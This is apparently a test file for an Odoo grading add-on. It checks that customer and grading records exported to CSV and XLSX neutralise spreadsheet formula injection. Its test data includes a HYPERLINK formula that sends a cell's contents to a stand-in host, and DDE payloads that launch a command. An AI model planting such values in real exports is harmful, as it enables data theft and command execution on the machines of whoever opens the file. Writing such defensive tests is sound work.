import csv
import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, tagged

from ..common import GradingCase

# What a spreadsheet takes for a formula, each as the name of a contact.
FORMULAS = (
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
)


@tagged("post_install", "-at_install")
class TestExportRpc(GradingCase, HttpCase):
    """A name that a spreadsheet would carry out is exported as text, from our lists as from Odoo's own."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.boss = cls.manager(password="grading_manager", group_ids=[(4, cls.env.ref("base.group_allow_export").id)])
        cls.customers = cls.env["res.partner"].union(*(cls.customer(name) for name in FORMULAS))
        for customer in cls.customers:
            cls.order(customer, 50, cls.company._grading_today())
        cls.scheme()
        cls.rescore()
        cls.profiles = cls.env["grading.profile"].search([("partner_id", "in", cls.customers.ids)])
        for profile in cls.profiles:
            profile._override(cls.gold, profile.partner_id.name)
        cls.play = cls.env["grading.play"].create({"name": FORMULAS[0], "tells_manager": True})
        cls.cases = cls.play._start_for(cls.customers)

    def export(self, kind, records, names):
        """The cells below the head of a file with these fields of the records."""
        self.authenticate("grading_manager", "grading_manager")
        fields = [{"name": name, "label": name, "type": "char"} for name in names]
        data = {"model": records._name, "fields": fields, "ids": records.ids, "domain": [], "import_compat": False}
        data |= {"context": {"allowed_company_ids": self.company.ids}, "groupby": []}
        form = {"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def lists(self):
        """Our lists in which a customer's, a play's or a person's words stand, and the fields that have them."""
        return (
            (self.customers, ("name", "grading_grade_id/name")),
            (self.profiles, ("display_name", "partner_id/name", "manual_reason")),
            (self.cases, ("display_name", "partner_id/name", "play_id/name")),
            (self.profiles.history_ids, ("partner_id/name", "note")),
        )

    def test_a_formula_is_quoted_in_csv(self):
        for records, names in self.lists():
            rows = list(csv.reader(io.StringIO(self.export("csv", records, names).decode())))[1:]
            cells = [cell for row in rows for cell in row]
            with self.subTest(model=records._name):
                self.assertFalse([cell for cell in cells if cell.startswith(("=", "+", "-"))])
                self.assertTrue([cell for cell in cells if cell.startswith("'=")], "and is there, as Odoo quotes it")

    def test_a_formula_is_treated_in_xlsx_as_odoo_treats_it(self):
        """Odoo's own list of contacts is the measure: the same names end in cells of the same kind."""
        kinds = []
        for records, names in ((self.customers, ("name",)), (self.profiles, ("partner_id/name",))):
            sheet = openpyxl.load_workbook(io.BytesIO(self.export("xlsx", records, names))).active
            kinds.append(sorted((str(row[0].value), row[0].data_type) for row in sheet.iter_rows(min_row=2)))
        self.assertEqual(*kinds)
        self.assertEqual(len(kinds[0]), len(FORMULAS))
